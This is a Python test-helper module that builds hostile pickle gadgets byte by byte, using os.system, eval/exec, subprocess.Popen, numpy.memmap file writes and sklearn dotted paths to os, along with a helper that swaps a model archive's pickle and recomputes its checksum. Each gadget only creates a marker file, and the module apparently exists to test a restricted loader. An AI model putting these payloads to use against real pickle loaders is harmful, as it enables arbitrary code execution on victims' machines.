"""Pickle gadgets built opcode by opcode, as an attacker would write them (tests and scripts/faults.py).

Each, loaded by an unrestricted unpickler, creates or writes the marker path it is given.
"""

from __future__ import annotations

import hashlib
import json
import struct
import zipfile
from pathlib import Path


def _str(s: str) -> bytes:
    b = s.encode()
    return b"\x8c" + bytes([len(b)]) + b if len(b) < 256 else b"X" + struct.pack("<I", len(b)) + b


def _obj(x) -> bytes:
    if isinstance(x, str):
        return _str(x)
    if isinstance(x, bool) or x is None:
        return {True: b"\x88", False: b"\x89", None: b"N"}[x]
    if isinstance(x, int):
        return b"J" + struct.pack("<i", x)
    if isinstance(x, tuple):
        return b"(" + b"".join(_obj(v) for v in x) + b"t"
    if isinstance(x, bytes):
        return b"C" + bytes([len(x)]) + x
    raise TypeError(x)


def call4(module: str, name: str, *args) -> bytes:
    """Protocol-4 ``module.name(*args)``: STACK_GLOBAL resolves dotted names."""
    return _str(module) + _str(name) + b"\x93" + _obj(tuple(args)) + b"R"


def pickle4(body: bytes) -> bytes:
    return b"\x80\x04" + body + b"."


def memmap_gadget(target: Path, module: str = "numpy.random.mtrand") -> bytes:
    """``np.memmap(target, 'uint8', 'w+', 0, (4,))`` reached through ``module``'s ``np``, then
    four bytes set into it (SETITEMS on the array): a file written where the attacker chose."""
    body = call4(module, "np.memmap", str(target), "uint8", "w+", 0, (4,))
    body += b"(" + b"".join(_obj(i) + _obj(ord(c)) for i, c in enumerate("pwnd")) + b"u"
    return pickle4(b"]" + b"(" + body + b"e")  # [memmap]


def gadgets(marker: Path) -> dict[str, bytes]:
    touch = f"touch {marker}"
    return {
        "memmap via numpy.random.mtrand.np": memmap_gadget(marker),
        "memmap via numpy.random._pickle.np": memmap_gadget(marker, "numpy.random._pickle"),
        "memmap via sklearn.base.np": memmap_gadget(marker, "sklearn.base"),
        "numpy.memmap": pickle4(call4("numpy", "memmap", str(marker), "uint8", "w+", 0, (4,))),
        "numpy.lib.format.open_memmap": pickle4(call4("numpy.lib.format", "open_memmap", str(marker), "w+")),
        "os.system (protocol 0 GLOBAL)": b"cos\nsystem\n(V" + touch.encode() + b"\ntR.",
        "posix.system": pickle4(call4("posix", "system", touch)),
        "builtins.eval": pickle4(call4("builtins", "eval", f"__import__('os').system({touch!r})")),
        "builtins.exec": pickle4(call4("builtins", "exec", f"open({str(marker)!r}, 'w')")),
        "builtins.open": pickle4(call4("builtins", "open", str(marker), "w")),
        "subprocess.Popen": pickle4(call4("subprocess", "Popen", ("touch", str(marker)))),
        "getattr chain": pickle4(call4("builtins", "getattr", 0, "__class__")),
        "sklearn dotted to os": pickle4(call4("sklearn.utils", "_joblib.os.system", touch)),
        "numpy dtypes dotted": pickle4(call4("numpy.dtypes", "np.memmap.Float64DType", str(marker))),
        "numpy.load with allow_pickle": pickle4(call4("numpy", "load", str(marker), None, True)),
        "torch.load": pickle4(call4("torch", "load", str(marker))),
    }


def rewrite_models(path: Path, blob: bytes, out: "Path | None" = None) -> Path:
    """A surrogate file whose models.pkl is ``blob``, with the checksum recomputed as an attacker can."""
    with zipfile.ZipFile(path) as z:
        meta = json.loads(z.read("surrogate.json"))
    meta["models_sha256"] = hashlib.sha256(blob).hexdigest()
    out = out or path
    with zipfile.ZipFile(out, "w") as z:
        z.writestr("surrogate.json", json.dumps(meta))
        z.writestr("models.pkl", blob)
    return out
